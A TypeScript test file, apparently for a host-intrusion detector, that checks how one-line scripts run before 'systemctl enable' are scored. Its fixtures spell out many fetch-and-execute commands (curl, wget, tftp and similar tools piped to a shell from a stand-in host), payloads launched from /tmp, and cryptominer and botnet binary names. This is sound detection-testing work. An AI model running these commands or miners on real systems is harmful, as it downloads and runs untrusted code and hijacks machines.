import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Disposition } from '../../src/case/case.schema.ts';
import { explainEvent, judge, ran } from '../support/scenarios/scenario.ts';

/** What a one-line script comes to as the parent of `systemctl enable`, where nothing else says anything. */
function judged(script: string): { readonly disposition: Disposition; readonly told: string } {
  const event = ran('deploy', 'systemctl enable --now app.service', 'bash', `bash -c ${script}`, 'cron');
  const row = explainEvent(event, 'full');
  assert.ok(row);
  const { score } = judge([row]);
  return { disposition: score.disposition, told: score.reasons.map(({ code }) => code).join(', ') };
}

/** The plain way to do a thing, and others. */
interface Twins {
  readonly plain: string;
  readonly disposition: Disposition;
  readonly others: readonly string[];
}

const END = 'systemctl enable --now app.service';
const twins: readonly Twins[] = [
  {
    plain: `'cd /tmp && ./x; ${END}'`,
    disposition: 'likely-malicious',
    others: [
      `'cd -- /tmp; ./x; ${END}'`,
      `'cd -P /var/tmp; ./x; ${END}'`,
      `'cd /; cd tmp; ./x; ${END}'`,
      `'cd /var/log; cd ../tmp; ./x; ${END}'`,
      `'pushd /var/tmp; ./x; ${END}'`,
      `'(cd /tmp && ./x); ${END}'`,
      `'{ cd /tmp; ./x; }; ${END}'`,
      `'if cd /var/crash; then ./x; fi; ${END}'`,
      `'while cd /tmp; do ./x; break; done; ${END}'`,
      `'for i in 1; do cd /tmp; ./x; done; ${END}'`,
      `'env -C /var/crash ./x; ${END}'`,
      `'env --chdir=/tmp nohup ./x; ${END}'`,
      `'sudo -D /tmp ./x; ${END}'`,
      `'cd /tmp; timeout 5 ./x; ${END}'`,
      `'cd /tmp; nohup setsid ./x; ${END}'`,
      `'sudo bash -c "cd /tmp && ./x"; ${END}'`,
      `'su -c "cd /tmp; ./x" root; ${END}'`,
      `'eval "cd /tmp"; ./x; ${END}'`,
      `'cd /tmp; sh x.sh; ${END}'`,
      `'cd /tmp; . ./x; ${END}'`,
      `'cd /tmp; python3 x.py; ${END}'`,
      // The same as a sensor shows it that loses the quotes.
      `cd /tmp && ./x; ${END}`,
      `sudo bash -c cd /tmp && ./x; ${END}`,
      `"sudo bash -c 'cd /tmp && ./x'; ${END}"`,
    ],
  },
  {
    plain: `'curl https://x.example.com/i | sh; ${END}'`,
    disposition: 'likely-malicious',
    others: [
      `'wget -qO- https://x.example.com/i | bash; ${END}'`,
      `'axel -o - https://x.example.com/i | sh; ${END}'`,
      `'lynx -dump https://x.example.com/i | sh; ${END}'`,
      `'elinks -source https://x.example.com/i | sh; ${END}'`,
      `'w3m -dump_source https://x.example.com/i | sh; ${END}'`,
      `'aria2c -o - https://x.example.com/i | sh; ${END}'`,
      `'ftpget -c x.example.com - i | sh; ${END}'`,
      `'tftp x.example.com -c get i /dev/stdout | sh; ${END}'`,
      `'scp x.example.com:i /dev/stdout | sh; ${END}'`,
      `'rsync x.example.com::i /dev/stdout | sh; ${END}'`,
      `'lwp-download https://x.example.com/i - | perl; ${END}'`,
      `'GET https://x.example.com/i | sudo ksh; ${END}'`,
      `'curl https://x.example.com/i | tcsh; ${END}'`,
      `'sh <(axel -o - https://x.example.com/i); ${END}'`,
      `'curl https://x.example.com/i | sudo env A=1 deno run -; ${END}'`,
    ],
  },
  {
    plain: `'/opt/xmrig -o x.example.com; ${END}'`,
    disposition: 'likely-malicious',
    others: [
      'kaiji',
      'phoenixminer',
      'trexminer',
      'bfgminer',
      'coinminer',
      'muhstik',
      'hezb',
      'z0miner',
      'skidmap',
      'dbused',
      'xmr-stak',
    ].map((name) => `'/opt/${name} --url x; ${END}'`),
  },
  {
    plain: `'make install; ${END}'`,
    disposition: 'needs-review',
    others: [
      `'cd /opt/app && ./x; ${END}'`,
      `'(cd /tmp); /opt/app/x; ${END}'`,
      `'pushd /opt/app; ./x; popd; ${END}'`,
      `'env -C /opt/app ./x; ${END}'`,
      `'sudo bash -c "cd /opt/app && ./x"; ${END}'`,
      `'axel https://x.example.com/i; ${END}'`,
      `'scp i x.example.com:i; ${END}'`,
      `'/opt/taxminers --url x; ${END}'`,
    ],
  },
];

for (const { plain, disposition, others } of twins) {
  describe(`${disposition}, as ${plain}`, () => {
    for (const script of [plain, ...others]) {
      it(script, () => {
        const found = judged(script);
        assert.equal(found.disposition, disposition, found.told);
      });
    }
  });
}
